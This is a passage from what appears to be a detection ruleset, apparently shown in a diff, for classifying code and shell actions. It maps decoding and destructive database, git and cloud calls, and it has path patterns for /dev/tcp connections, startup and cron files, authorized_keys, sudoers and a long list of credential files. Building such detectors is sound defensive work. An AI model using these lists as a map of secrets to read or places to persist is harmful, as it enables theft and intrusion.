+:\\\\\\\\s\\\\*)?\\\\((?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))|\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\\
+?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+(?:=(?![?*{+])|\\\\(\\\\?==\\\\)))\\\\/[imu]*\\\\))(?!\
+\\\\.input)|\\u00a7R\\\\[\\\\/\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,\
+?\\\\d*\\\\})+|\\\\[\\\\^=#?(?:\\\\\\\\s|#)?\\\\][+*])\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))[^()\\\\/\\\\n]*\\\\/, ?1\\\\]","_name_"],["\\\\[\\\\.\\\\.\\\\.\\u00a7T\\\\.matchAll\\\\(\\\\/\\\\^?(\
+?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+\\\\)(?:\\\\\\\\s\\\\*)?(?:=(\
+?![?*{+])|\\\\(\\\\?==\\\\))[^()\\\\/\\\\n]*\\\\/[gimu]*\\\\)\\\\]\\\\.map\\\\(\\\\(?(\\\\w+)\\\\)? ?=> ?\\\\1\\\\[1\\\\]\\\\)","_name_"],["\\u00a7M(?:\\\\.group\\\\(1\\\\)|(?:\\\\?\\\\.)?\\\\[1\\\\])","_name_\
+"],["(?:Object\\\\.keys|(?<![\\\\w.])(?:sorted|list|set|len))\\\\(\\u00a7O\\\\)|\\u00a7O\\\\.keys(?:\\\\(\\\\)|(?![\\\\w(]))|(?<=\\\\.join\\\\()\\u00a7O(?=\\\\))|(?<!\\\\*)\\\\*\\u00a7O(?=[,\
+)])","_name_"],["\\\\bin \\u00a7O(?![\\\\w.\\\\[])","in _name_"],["\\\\bfor \\\\w+, ?\\u00a7R in (?:enumerate\\\\(\\u00a7[FL](?:, ?\\\\d+)?\\\\)|\\u00a7O\\\\.items\\\\(\\\\))|\\\\[\\\\s*\\\\w+\
+, ?\\u00a7R\\\\s*\\\\] of Object\\\\.entries\\\\(\\u00a7O\\\\)|\\\\bfor \\u00a7R in \\u00a7[FL](?![\\\\w.\\\\[])|\\\\(\\\\s*(?:const|let|var) \\u00a7R of \\u00a7L(?![\\\\w.\\\\[])","for _ in\
+ _"],["\\u00a7R\\\\.(?:startswith|startsWith|start_with\\\\?|endswith|endsWith|includes|include\\\\?|isspace|empty\\\\?)(?:\\\\((?:[\\"'][^\\"'\\\\n]{0,3}[\\"'](?:, ?[\\"'][^\\"'\
+\\\\n]{0,3}[\\"'])*|\\\\([\\"'][^()\\\\n]{0,20}\\\\))?\\\\)|(?![\\\\w(]))|[\\"'][^\\"'\\\\n]{0,3}[\\"'] (?:not )?in \\u00a7R(?![\\\\w.\\\\[])|\\u00a7R(?:\\\\[0\\\\])? ?[!=]==? ?[\\"'][^\\"'\\\\\
+n]{0,3}[\\"']","_ok_"],["\\\\/\\\\^\\\\\\\\?[#\\\\w]{1,4}(?:\\\\\\\\s\\\\*)?\\\\/\\\\.test\\\\(\\u00a7R\\\\)|\\u00a7R =~ \\\\/\\\\^\\\\\\\\?[#\\\\w\\\\\\\\]{1,4}\\\\/|(?:\\\\bnot |!)\\u00a7[RM](?![\\\\w.\\\\[])\
+|(?<![\\\\w.])len\\\\(\\u00a7L\\\\)|\\u00a7L\\\\.length\\\\b","_ok_"],["\\\\b(if|unless) ((?:_ok_|\\\\b(?:and|or|not)\\\\b|[ ()!&|])*)\\u00a7[RM](?=\\\\s*(?:and\\\\b|or\\\\b|else\\\\b|:|\\\
+\\]|\\\\)|&&|\\\\|\\\\||\\\\n|$))","$1 $2_ok_"],["\\\\bif ?\\\\(((?:_ok_|[ ()!&|])*)\\u00a7[RM](?=\\\\s*(?:&&|\\\\|\\\\||\\\\)))","if ($1_ok_"],["\\u00a7L\\\\.filter\\\\((?:Boolean|\\\\(?\\u\
+00a7R\\\\)? ?=> ?(?:_ok_|[!&| ()]|\\u00a7R (?=&&))+)\\\\)","\\u00a7L"],["\\u00a7L\\\\.(?:map|forEach|flatMap|filter)\\\\(\\\\(?\\u00a7R\\\\)? ?=> ?","_list_("],["\\u00a7L(?:\\\\.(\
+?:each|map|select|reject|filter_map))* ?(?:\\\\{|do) ?\\\\|\\u00a7R\\\\|","_list_ {"]],"shared":{"functions":{"chr":"characters $all","fromCharCode":"characters $all",\
+"fromCodePoint":"characters $all","bytes":"characters $0","bytearray":"characters $0","ord":"code-point $0","int":"integer $0 $1","str":"value $0","String":"val\
+ue $0","strval":"value $0","iter":"value $0","scalar":"value $0","expanduser":"value $0","abspath":"value $0","realpath":"value $0","normpath":"value $0","fspat\
+h":"value $0","compile":"value $0","enter_context":"value $0","closing":"value $0","list":"listed $0","sorted":"listed $0","tuple":"listed $0","set":"listed $0"\
+,"frozenset":"listed $0","Set":"listed $0","Array.from":"listed $0","from":"listed $0","b64decode":"fold base64 $0","urlsafe_b64decode":"fold base64 $0","decode\
+bytes":"fold base64 $0","a2b_base64":"fold base64 $0","base64_decode":"fold base64 $0","decode_base64":"fold base64 $0","decode64":"fold base64 $0","strict_deco\
+de64":"fold base64 $0","urlsafe_decode64":"fold base64 $0","atob":"fold base64 $0","b32decode":"fold base32 $0","b85decode":"fold unread $0","a85decode":"fold u\
+nread $0","str_rot13":"fold unread $0","decompress":"fold unread $0","gzinflate":"fold unread $0","gzuncompress":"fold unread $0","gzdecode":"fold unread $0","i\
+nflateSync":"fold unread $0","inflateRawSync":"fold unread $0","gunzipSync":"fold unread $0","b16decode":"fold hex $0","unhexlify":"fold hex $0","a2b_hex":"fold\
+ hex $0","fromhex":"fold hex $0","hex2bin":"fold hex $0","strrev":"fold reverse $0","reversed":"reverse $0","reverse":"reverse $0","strtolower":"fold lower $0",\
+"lc":"fold lower $0","strtoupper":"fold upper $0","uc":"fold upper $0","trim":"fold trim $0","unescape":"fold url $0","unquote":"fold url $0","urldecode":"fold \
+url $0","rawurldecode":"fold url $0","decodeURIComponent":"fold url $0","decodeURI":"fold url $0","expandvars":"fold home $0","join":"join-texts $0 $1..","implo\
+de":"join-texts $0 $1..","sprintf":"format $0 $1..","map":"map $0 $1","array_map":"map $0 $1"},"methods":{"join":"join-texts $self $0","split":"if-text split $s\
+elf $0","replace":"if-text if-args:2 replace $self $0 $1","replaceAll":"if-text replace $self $0 $1","gsub":"if-text replace $self $0 $1","lower":"if-text fold \
+lower $self","downcase":"if-text fold lower $self","toLowerCase":"if-text fold lower $self","upper":"if-text fold upper $self","upcase":"if-text fold upper $sel\
+f","toUpperCase":"if-text fold upper $self","strip":"if-text fold trim $self","chomp":"if-text fold trim $self","trim":"if-text fold trim $self","rstrip":"if-te\
+xt fold trim-end $self","lstrip":"if-text fold trim-start $self","reverse":"reverse $self","decode":"decode $self $0","encode":"value $self","to_s":"value $self\
+","to_str":"value $self","to_sym":"value $self","bytes":"value $self","bind":"value $self","chars":"if-text elements $self","concat":"concatenate $self $all","f\
+ormat":"if-text format $self $0..","clear":"if-lasting run sql delete-all rows","clearAsync":"if-lasting run sql delete-all rows","drop":"if-lasting run sql del\
+ete-all rows","dropAsync":"if-lasting run sql delete-all rows","erase":"if-lasting run sql delete-all rows","remove":"if-empty if-lasting run sql delete-all row\
+s","removeAsync":"if-empty if-lasting run sql delete-all rows","openDB":"if-made:store value $self","open_db":"if-made:store value $self","sublevel":"if-made:st\
+ore value $self","begin":"if-made:store value $self","pack":"pack $0 $self","unpack1":"if-text fold base64 $self","charCodeAt":"code-point $self $0","slice":"sl\
+ice $self $0 $1","joinpath":"join $self $0..","hexdigest":"value","call":"invoke $self $0..","apply":"invoke $self $1","send":"message $self $0 $1..","public_se\
+nd":"message $self $0 $1..","__send__":"message $self $0 $1.."},"deeds":{"drop_database":"if-kept run sql drop-database $owner","dropdatabase":"if-kept run sql \
+drop-database $owner","ensuredeleted":"if-kept run sql drop-database $owner","ensuredeletedasync":"if-kept run sql drop-database $owner","push":"if-git run git \
+push $all","checkout":"if-git run git checkout $all","update_ref":"if-git run git update-ref $all","filter_branch":"if-git run git filter-branch $all","branch":\
+"if-git run git branch $all","stash":"if-git run git stash $all","raw":"if-git program git $all","reset":"if-says:^- run git reset $all","clean":"if-says:^- run\
+ git clean $all","drop_all":"if-kept run sql drop-schema $owner","drop_table":"if-kept run sql drop-table $0","droptable":"if-kept run sql drop-table $0","extra\
+ctall":"run tar xf archive -C $0:path","unpack_archive":"run tar xf archive -C $0:path","extractto":"run tar xf archive -C $0:path","extract_archive":"run tar x\
+f archive -C $1","drop_index":"value","drop_indexes":"value","dropindex":"value","dropindexes":"value","flushall":"if-stored run sql flush FLUSHALL","flush_all"\
+:"if-stored run sql flush FLUSHALL | if-name:broker run sql flush FLUSHALL","flushdb":"if-stored run sql flush FLUSHDB","delete_all":"if-name if-kept run sql de\
+lete-all $owner","destroy_all":"if-name if-kept run sql delete-all $owner","deleteall":"if-name if-kept run sql delete-all $owner","deletemany":"if-kept if-empt\
+y run sql delete-all $owner","delete_many":"if-kept if-empty run sql delete-all $owner","_raw_delete":"if-kept run sql delete-all $owner","drop_collection":"if-\
+kept if-none run sql drop-collection $owner | if-kept run sql drop-collection $0","dropcollection":"if-kept if-none run sql drop-collection $owner | if-kept run\
+ sql drop-collection $0","query":"made rows","collection":"made rows","all":"if-none made rows","filter":"if-none made rows","exclude":"if-none made rows","begi\
+n_delete":"if-kept run cloud-sdk delete","begindelete":"if-kept run cloud-sdk delete","recursivedelete":"if-kept run cloud-sdk delete","obliterate":"if-kept run\
+ cloud-sdk delete","expunge":"if-none if-kept run cloud-sdk delete","purge":"if-name:control if-no-sign:memory-broker run celery purge","discard_all":"if-name:c\
+ontrol if-no-sign:memory-broker run celery purge","drop":"if-made:rows if-none run sql drop-collection rows","delete":"if-made:rows if-none run sql delete-all r\
+ows | if-none made pending-delete","forcedelete":"if-made:rows if-none run sql delete-all rows"}},"words":{"skipped":["if","elif","else","elsif","unless","while\
+","until","do","try","except","catch","finally","begin","rescue","ensure","then","end","and","or","in","case","when","switch","default","break","continue","pass\
+","next","last","redo","raise","throw","export","public","private","protected","static","final","abstract","async","use","using","package"],"ending_signs":[";",\
+"{","}",")","]",",",":","=>"],"assigning":["=",":=","+=",".=","||=","??=","&&="],"constructors":["__init__","constructor","initialize","__construct"],"class_key\
+words":["class","module","interface","namespace"],"declaring":["const","let","var","my","our","local","await","static","async"],"standard":["assert","async_hook\
+s","buffer","child_process","cluster","console","crypto","dgram","dns","events","fs","http","http2","https","module","net","os","path","perf_hooks","process","p\
+unycode","querystring","readline","stream","string_decoder","timers","tls","tty","url","util","v8","vm","worker_threads","zlib","bun","zx","abc","argparse","arr\
+ay","ast","asyncio","base64","binascii","bz2","calendar","cgi","cmath","codecs","collections","concurrent","configparser","contextlib","copy","csv","ctypes","da\
+taclasses","datetime","decimal","difflib","email","enum","errno","fileinput","fnmatch","fractions","functools","gc","getpass","glob","gzip","hashlib","heapq","h\
+mac","html","importlib","inspect","io","ipaddress","itertools","json","keyword","locale","logging","lzma","math","mimetypes","multiprocessing","operator","pathl\
+ib","pickle","pkgutil","platform","plistlib","pprint","queue","random","re","sched","secrets","select","shelve","shlex","shutil","signal","smtplib","socket","so\
+cketserver","sqlite3","ssl","stat","statistics","string","struct","subprocess","sys","sysconfig","tarfile","tempfile","textwrap","threading","time","timeit","tr\
+aceback","types","typing","unittest","urllib","uuid","venv","warnings","weakref","webbrowser","xml","xmlrpc","zipfile","zoneinfo","dotenv","jsonwebtoken","jose"\
+,"jwt","bcrypt","bcryptjs","passlib","cryptography","pydantic","zod","yaml","lodash","pandas","numpy","express","fastapi","flask","starlette","winston","pino","\
+loguru","structlog","click","typer","jsdom","happy-dom","linkedom","cheerio","nock","msw","supertest","sinon","jest","vitest","pytest","responses","requests_moc\
+k","respx","pytest_httpx","vcr","betamax","moto"],"prefixing":["new","await","not","typeof","void","defined","yield","async","return","throw","clone"],"followin\
+g":["if","unless","while","until","do","and","or","end","then","rescue","ensure","in","else","elsif","for","foreach","x","eq","ne","cmp","lt","gt","le","ge"],"o\
+pening":["do","def","class","module","begin","case"],"leading_opening":["if","unless","while","until","for"],"spawning":["Start","spawn","spawnl","spawnlp","spa\
+wnv","spawnvp","spawnve","fork","vfork","Popen","posix_spawn","pcntl_fork","proc_open","popen","execFile","Worker","Process","create_subprocess_exec","create_su\
+bprocess_shell"],"shells":["system","exec","shell_exec","popen","execSync","os","execute","shell","cmd"],"waiting":["break","return","exit","P_WAIT","wait","wai\
+t2","waitpid","waitpid2","wait4","join","communicate","sleep","usleep","await","throw","raise","die","last","readline","input","gets","recv","accept","get","pol\
+l","Queue","Sleep","Wait","Accept","Recv","receive","Receive","select","After","Tick","delay","Delay","sleepAsync"],"sql_kinds":["DATABASE","SCHEMA","TABLE","VI\
+EW","INDEX","USER","ROLE","FUNCTION","PROCEDURE","TRIGGER","SEQUENCE","TYPE","EXTENSION","KEYSPACE","TABLESPACE","COLUMN","CONSTRAINT","POLICY","OWNED","COLLECT\
+ION","STREAM","BUCKET","MEASUREMENT","SERIES","PARTITION"],"sql_fillers":["IF","EXISTS","NOT","ONLY","CONCURRENTLY","CASCADE","LOW_PRIORITY","QUICK","IGNORE"],"\
+sql_leads":["AS","BEGIN","THEN","ANALYZE","ANALYSE","EXPLAIN","DO","DETACH","LOOP","ELSE"],"sql_reads":["LOAD_FILE","PG_READ_FILE","PG_READ_BINARY_FILE","LO_IMP\
+ORT","READFILE","READ_TEXT","INFILE"],"sql_writes":["OUTFILE","DUMPFILE","WRITEFILE","LO_EXPORT"],"sql_code":["EXECUTE","EXEC","PREPARE","DO"],"before_value":["\
+return","typeof","case","in","of","and","or","not","if","unless","split","grep","when"],"behind_calls":["while","until","if","unless","or","and","for","foreach"\
+],"data_signs":["driver","database","key-store","in-memory","imitation","data-library"],"endpoints":["endpoint_url","endpoint","base_url","baseURL"],"sending_ve\
+rbs":["POST","PUT","PATCH","DELETE"],"element_methods":["map","forEach","flatMap","filter","each","each_with_index","collect","select","find","to_h","filter_map\
+","reverse_each"],"folding_methods":["reduce","inject","each_with_object"],"selecting_methods":["filter","select","reject","sort","toSorted","find_all","grep"],\
+"selecting_functions":["filter","takewhile","dropwhile","tqdm"],"remote":["indices","indexes","tables","databases","collections","schemas","keyspaces","queues",\
+"topics","streams","buckets","exchanges","repos","repositories","projects","resourcegroups","volumes","instances","virtualmachines","droplets","servers","cluste\
+rs","namespaces","organizations","customers","subscriptions","deployments","dnszones","zones","tenants","vaults","storageaccounts","webapps","datasets","loadbal\
+ancers","backups","hostedzones","shards","replicas","partitions"],"remote_members":["indices","repos","repositories","buckets","resourcegroups","virtualmachines\
+","droplets","keyspaces","customers","dnszones","storageaccounts","webapps","loadbalancers","hostedzones","deployments","namespaces","databases","volumes","stat\
+efulsets","daemonsets","persistentvolumeclaims","persistentvolumes"],"deleting":["delete","rdelete","del","unprotect","drop","destroy","purge","truncate","wipe"\
+,"terminate","erase","nuke","obliterate","expunge","deregister","deletion"],"loosely_deleting":["remove","clear","empty","rmtree","removetree","rmdir","unlink",\
+"rm"],"passing":["label","labels","tag","tags","reaction","reactions","assignee","assignees","reviewer","reviewers","listener","listeners","handler","handlers",\
+"header","headers","interceptor","interceptors","cookie","cookies","cache","caches","timeout","interval","filter","filters","default","defaults","mock","mocks",\
+"queue_handler"],"deletion_fillers":["admin","schedule","key","all","if","exist","exists","async","sync","force","cascade","begin","batch","bulk","recursive","a\
+nd","wait","now","by","id","command"],"imitating":["moto.mock_aws","responses.activate","respx.mock"],"mock_setters":["configure_mock","attach_mock","callsFake"\
+,"returns","resolves","rejects","mockImplementation","mockReturnValue","mockResolvedValue","mockRejectedValue"],"mock_ends":["restore","restoreAll","restoreAllM\
+ocks","mockRestore","reset","resetAll","resetAllMocks","mockReset","stop","stopall","undo","callThrough","callThroughWithNew","callsArg","mockImplementationOnce\
+","__exit__","unmock","doUnmock","enableNetConnect","isolateModules","resetModules","resetHandlers","deactivate"],"conditional":["if","elif","else","unless","fo\
+r","foreach","while","until","do","switch","match","try","except","case","and","or","assert","&&","||","??","?","?.","||=","??=","&&="],"exiting":["return","thr\
+ow","raise","await"],"exit_owners":["sys","process"],"opening_statements":["if","for","while","do","switch","try","with","function","class","else","return","thr\
+ow"],"defining":["def","class","function","func","fn","sub","lambda","yield","case","default","label","goto","defer","finally"],"showing_functions":["getsource"\
+,"getsourcelines","signature","getdoc","getfile","callable","isfunction","repr","isinstance","issubclass"],"function_fields":["length","__name__","__doc__","__d\
+efaults__","__annotations__","__module__","__qualname__"],"suspending":["await","yield"],"continuing":["else","catch","finally","while","instanceof","in","of","\
+as","from","do"],"changing":["global","nonlocal","for","as","case","del"],"setting":["=",":=","+=","??=","||="],"later":["lambda","def","function","atexit","Tim\
+er","Thread","submit"],"ending":["endswith","endsWith"],"alternating":["||","!","?","??","^",":="],"prefix_signs":["+","-","!","~","*","**","...","&","\\\\","++",\
+"--","@","$"],"block_lists":["map","grep","sort","first","any","all"],"perl_declaring":["my","our","local"],"file_programs":["rm","rmdir","mv","cp","ln","chmod"\
+,"chown","touch","mkdir"],"deleting_programs":["rm","truncate","shred"],"destructive_programs":["rm","rmdir","eval","truncate","mv","chmod","chown"]}},"paths":{\
+"classes":{"root":"\`/\` itself, or everything in it.","system":"Folders of the operating system and their contents.","system-tree":"Such a folder itself, or one \
+of its main parts: /etc/ssl, /usr/lib, /var/lib.","local-system":"Parts of the system for local additions: /usr/local, /opt, package sources.","home":"A home fo\
+lder itself, or all of several.","personal":"Direct child of a home, or of a folder of personal files.","outside":"Deeper in a home, or anywhere else outside th\
+e workspace.","workspace":"The workspace itself, everything in it, or a folder above it.","source":"Near the top of the workspace, and not produced by a build."\
+,"source-folder":"Of these, a folder by whose name projects keep what people wrote; others may be what the agent made itself.","inner":"Deeper in the workspace,\
+ and not produced by a build.","disposable":"Produced anew by a build, test or package manager.","temp":"Inside a folder for temporary files.","temp-root":"Such\
+ a folder itself, or everything in it.","vcs":"Store of a version control system: \`.git\`.","vcs-config":"Hooks and configuration of version control.","credentia\
+ls":"Secrets: keys, tokens, passwords.","credentials-by-name":"\\"credentials\\" in the name of source code or a text: protected from edit tools alone.","handed-o\
+ver":"Secrets in \`.env\` that the shell hands to programs: \`source .env\`.","from-template":"The same, as a copy of the template beside it.","accounts":"Users and\
+ permissions: passwd, sudoers, PAM.","account-secrets":"Of these, all but the list of names that every program reads: /etc/passwd.","authorized-keys":"Keys that\
+ may log in.","startup":"Read by shells, desktops and interpreters at start-up.","schedule":"Cron, timers, services.","device":"Disks.","kernel":"Switches and m\
+emory of the kernel.","socket":"Sockets that control a machine.","connection":"\`/dev/tcp/\\u2026\`: a connection to another machine.","local-connection":"The same\
+ to this machine, or to a container beside it.","nowhere":"\`/dev/null\`.","endless":"Devices without an end: \`/dev/zero\`.","data":"Dumps, backups, databases, lis\
+ts of people.","logs":"Evidence kept by the system: logs, histories.","unknown":"Unknown before the command runs.","unknown-folder":"Everything in a folder whos\
+e name is unknown, and may be empty: all of the machine then."},"purposes":{"connection":{"form":"^/dev/(?:tcp|udp)/(?!(?:localhost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\\\\.0|\
+\\\\[?::1\\\\]?|[a-z][\\\\w-]*)/)"},"local-connection":{"form":"^/dev/(?:tcp|udp)/(?:localhost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\\\\.0|\\\\[?::1\\\\]?|[a-z][\\\\w-]*)/"},"nowhere":{"fo\
+rm":"^/dev/(?:null|zero|full|random|urandom)$"},"endless":{"form":"^/dev/(?:zero|full|u?random)$"},"startup":{"form":"^(~/)?\\\\.(bashrc|bash_profile|bash_login|b\
+ash_logout|bash_aliases|profile|zshrc|zshenv|zprofile)$|^(~/)?\\\\.(zlogin|zlogout|kshrc|cshrc|tcshrc|login|xprofile|xinitrc|xsession|xsessionrc|shrc)$|^(~/)?\\\\.(\
+mkshrc|bash_env|inputrc|pam_environment)$|^~/\\\\.config/(fish/|autostart(/|$)|environment\\\\.d(/|$)|nvim/init\\\\.|plasma-workspace/env)|^~/\\\\.(vimrc|emacs|pythonrc\
+|pythonstartup|gdbinit|tmux\\\\.conf|ssh/rc|ssh/environment|ssh/config)|^~/\\\\.(oh-my-zsh/)|^~/\\\\.(local/lib/python[^/]*/site-packages/.*(\\\\.pth|sitecustomize\\\\.py\
+|usercustomize\\\\.py))|^/etc/(profile(\\\\.d(/.*)?)?|bash\\\\.bashrc|bashrc|zsh(/.*|rc|env)|environment)$|^/etc/(ld\\\\.so\\\\.(preload|conf)(\\\\.d/.*)?|rc\\\\.local|xdg/au\
+tostart/.*|skel/.*|fish/.*)$|^/etc/(update-motd\\\\.d/.*|inputrc)$|(^|/)(sitecustomize|usercustomize)\\\\.py$|/(site|dist)-packages/[^/]+\\\\.pth$","home":true},"sche\
+dule":{"form":"^/etc/(cron[^/]*(/.*)?|anacrontab|systemd/.*|init\\\\.d(/.*)?|rc\\\\d?\\\\.d(/.*)?|inittab|init/.*)$|^/var/spool/(cron|at)|^(/usr)?/lib/systemd/|^/run/\
+systemd/|^~/\\\\.config/systemd(/|$)|^~?/library/launch(agents|daemons)(/|$)|^/library/launch|^~/\\\\.config/cron|^/usr/local/etc/rc\\\\.d/|^(/usr)?(/lib|/etc)/udev/r\
+ules\\\\.d/|^/etc/polkit-1/","home":true},"authorized-keys":{"form":"(^|/)\\\\.ssh/authorized_keys2?$|^/etc/ssh/(sshd_config|authorized_keys)"},"accounts":{"form":"\
+^(/usr/local)?/etc/(passwd-?|master\\\\.passwd|shadow-?|gshadow-?|sudoers(\\\\.d(/.*)?)?|pam\\\\.d(/.*)?)$|^(/usr/local)?/etc/(security/.*|doas\\\\.conf|login\\\\.defs|su\
+buid|subgid|pass\\\\S*[*?]\\\\S*)$"},"account-secrets":{"form":"^(/usr/local)?/etc/(?!passwd$)(passwd-?|master\\\\.passwd|shadow-?|gshadow-?|sudoers(\\\\.d(/.*)?)?)$|^(\
+/usr/local)?/etc/(?!passwd$)(pam\\\\.d(/.*)?|security/.*|doas\\\\.conf|login\\\\.defs|subuid|subgid)$|^(/usr/local)?/etc/(?!passwd$)(pass\\\\S*[*?]\\\\S*)$|^/usr/local/et\
+c/passwd$"},"device":{"form":"^/dev/((sd|hd|vd|xvd)[a-z*?]+[\\\\d*?]*|nvme\\\\d.*|mmcblk.*|disk\\\\d?.*|rdisk.*|md\\\\d+|dm-\\\\d+|mapper/.*)$|^/dev/(loop\\\\d+|nbd\\\\d+|mem\
+|kmem|port|disk/.*|vg\\\\w*/.*)$"},"kernel":{"form":"^/(proc/(sys|sysrq-trigger|kcore|\\\\d+/mem|kmsg)|sys/|boot/)"},"socket":{"form":"(^|/)(docker|containerd|podma\
+n|crio)\\\\.sock$"},"vcs-config":{"form":"^(~/\\\\.gitconfig|~/\\\\.config/git/|/etc/gitconfig)"},"data":{"form":"(^|[-_./])(dumps?|backups?|customers?|users|clients|\
+payroll|salar(y|ies)|patients?)([-_./]|$)|(^|[-_./])(employees|database|production[-_]?data|private|confidential|secrets?|prod)([-_./]|$)|\\\\.(sql|sql\\\\.gz|dump|\
+sqlite3?|db|bak|mdb|rdb|pst|mbox|kdbx)$"},"logs":{"form":"^/var/(log|audit)(/|$)|(^|/)\\\\.(bash|zsh|sh|python|mysql|psql|node_repl)_history$|^/run/log"}},"words"\
+:{"system_folders":["bin","boot","dev","etc","lib","lib32","lib64","libx32","opt","proc","root","run","sbin","srv","sys","usr","var","system","library","applica\
+tions","snap","nix","lost+found"],"root_folders":["boot","dev","etc","proc","root","sys","usr"],"personal_folders":["documents","desktop","pictures","downloads"\
+,"music","videos","movies","photos","library",".config",".local",".mozilla"],"credentials":[".netrc","_netrc",".npmrc",".pypirc",".pgpass",".my.cnf",".mylogin.c\
+nf",".git-credentials",".htpasswd",".dockercfg",".s3cfg",".boto",".vault-token",".envrc",".terraformrc",".yarnrc.token","kubeconfig","master.key","wallet.dat","\
+login.keychain-db","key4.db","logins.json","shadow","gshadow","shadow-","gshadow-","environ","admin.conf","secring.gpg",".bash_history",".zsh_history",".python_\
+history",".psql_history",".mysql_history",".node_repl_history","tnsnames.ora",".secrets",".secret",".passwd-s3fs","rclone.conf",".credentials"],"disposable":["n\
+ode_modules","bower_components","jspm_packages","dist","dist-ssr","build","builds","_build","out","output","outputs","target","bin","obj","coverage","htmlcov","\
+.nyc_output",".next",".nuxt",".output",".svelte-kit",".turbo",".cache","cache","caches",".parcel-cache",".vite",".angular",".gradle",".venv","venv","env","virtu\
+alenv",".virtualenv","__pycache__",".pytest_cache",".mypy_cache",".ruff_cache",".tox",".nox",".eggs",".hypothesis",".ipynb_checkpoints",".terraform",".serverles\
+s",".vercel",".netlify",".docusaurus",".eslintcache",".stylelintcache","storage/framework/views","storage/framework/cache",".coverage","coverage.xml","lcov.info\
+","builddir","storybook-static","public/build","public/packs","vendor","vendor/bundle","tmp","temp",".tmp",".temp","logs","log","generated","gen",".generated","\
+__generated__","artifacts","artifact","reports","report","test-results","test-reports","test-output","test_output","playwright-report","allure-results","allure-\
+report","junit.xml","deps",".bundle","cmake-build-debug","cmake-build-release","cmakefiles","cmakecache.txt","debug","release",".stack-work","dist-newstyle",".d\
+art_tool","deriveddata","pods",".build",".swiftpm","elm-stuff","zig-out","zig-cache","nimcache",".zig-cache","scratch",".scratch","_site",".jekyll-cache",".sass\
+-cache","bench-results",".pnpm-store","package-lock.json","yarn.lock","pnpm-lock.yaml","poetry.lock",".ds_store","thumbs.db","nohup.out","a.out","lib-cov","typi\
+ngs","wheelhouse",".aws-sam","cdk.out",".elixir_ls",".lexical",".metals",".bloop",".bsp",".ccls-cache",".scannerwork",".snakemake",".cxx","bazel-out","bazel-bin\
+","bazel-testlogs",".astro",".externalnativebuild",".expo",".vuepress",".docusaurus",".vinxi",".nitro",".wxt",".yarn/cache",".rpt2_cache",".fusebox",".dynamodb"\
+,".nx","lerna-debug.log",".phpunit.result.cache",".phpunit.cache",".direnv","mlruns","wandb","lightning_logs","runs","checkpoints/tmp","snapshots","__snapshots_\
+_","__image_snapshots__","screenshots"],"project_outputs":["resources/_gen","stage","pkgroot","rootfs","appdir",".vs","xcuserdata",".libs",".firebase",".apt_gen\
+erated","web_modules","vcpkg_installed","develop-eggs","bin-debug","bin-release","sdist","out-tsc","opencover","paket-files","meson-logs","nbbuild","nbdist","ni\
+mblecache","msbuild_logs","htmldocs","gwt-unitcache","codecoverage","cover_db","cython_debug","ipch","lib_managed","src_managed","project/boot","project/target"\
+,"blib","build_isolated","devel_isolated","benchmarkdotnet.artifacts","test-report","tests_output","_yardoc","__pypackages__","__marimo__","__macosx",".yardoc",\
+".virtual_documents",".pytype",".pyre",".pybuilder",".pub",".pdm-build",".mooncakes",".ng",".nb-gradle",".lein-plugins",".lake",".kitchen",".ionide",".htf",".go\
+dot",".import",".expo-shared",".ensime_cache",".eask",".cpcache",".cdk.staging",".buildlog",".artifacts",".ansible",".ammonite",".rts2_cache_cjs",".rts2_cache_e\
+s",".rts2_cache_umd",".symlinks","blob-report","tfplan","tfplan.binary","tfplan.out","_autosummary","latex.out","slprj",".stryker-tmp",".swc",".wrangler",".sst"\
+,".open-next",".contentlayer",".lighthouseci",".jest-cache",".rollup.cache",".kotlin",".scala-build","intermediate","deriveddatacache","library/bee","library/sc\
+riptassemblies","library/packagecache","library/artifacts","library/shadercache","flutter/ephemeral"],"source_folders":["src","source","sources","lib","libs","a\
+pp","apps","test","tests","spec","specs","__tests__","e2e","integration","doc","docs","documentation","packages","modules","module","components","pages","routes\
+","server","client","clients","api","backend","frontend","web","www","site","core","internal","cmd","pkg","pkgs","script","scripts","config","configs","configur\
+ation","settings","public","static","assets","images","img","media","data","dataset","datasets","db","database","databases","migrations","models","model","views\
+","controllers","services","service","utils","util","helpers","common","shared","include","bin","tool","tools","examples","samples","templates","styles","css","\
+resources","i18n","locale","locales","fixtures","plugins","plugin","extensions","themes","infra","infrastructure","terraform","deploy","deployment","k8s","kuber\
+netes","charts","helm","ansible","docker","ci",".github",".gitlab",".circleci",".vscode",".idea",".husky","notebooks","crates","contracts","proto","protos","sch\
+ema","schemas","android","ios","macos","windows","linux","functions","lambdas","middleware","hooks","stores","types","interfaces","main","java","kotlin","resour\
+ces","benches","benchmarks","bench","vendor","third_party","native","engine","kernel","drivers","firmware","game","content","posts","blog","articles","book","wi\
+ki"],"source_endings":["ts","tsx","js","jsx","mjs","cjs","mts","cts","py","pyi","go","rs","java","kt","kts","rb","php","cs","c","cc","cpp","h","hpp","swift","sc\
